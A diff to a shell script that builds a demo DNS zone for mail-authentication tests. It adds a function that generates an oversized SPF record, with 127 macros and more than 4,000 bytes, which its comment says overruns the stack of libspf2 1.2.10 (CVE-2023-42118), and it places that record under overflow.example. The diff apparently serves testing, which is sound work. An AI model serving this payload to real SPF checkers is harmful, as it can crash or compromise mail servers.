@@ -9,6 +9,14 @@
 # Quotes TXT data as strings of a zone file, at most 255 bytes each.
 zone_text() { fold -w 200 | sed 's/.*/"&"/' | tr '\n' ' '; }
 
+# An SPF record that makes libspf2 1.2.10 overrun its stack (CVE-2023-42118): one domain-spec of 127
+# macros and more than 4,000 bytes.
+overflow_record() {
+    printf 'v=spf1 exists:'
+    printf '%%{d}%.0s' $(seq 127)
+    printf '%04200d.example -all' 0
+}
+
 demo_zone() {
     local sign rsa ed25519
     sign=$(signmail) || die "signmail does not compile"
@@ -39,6 +47,8 @@ us.mailers.nightwatch.example. A 198.51.100.140
 stranger.example. TXT "v=spf1 ip4:203.0.113.0/24 -all"
 stranger.example. MX 10 mail.stranger.example.
 mail.stranger.example. A 203.0.113.66
+
+overflow.example. TXT $(overflow_record | zone_text)
 END
 }
 
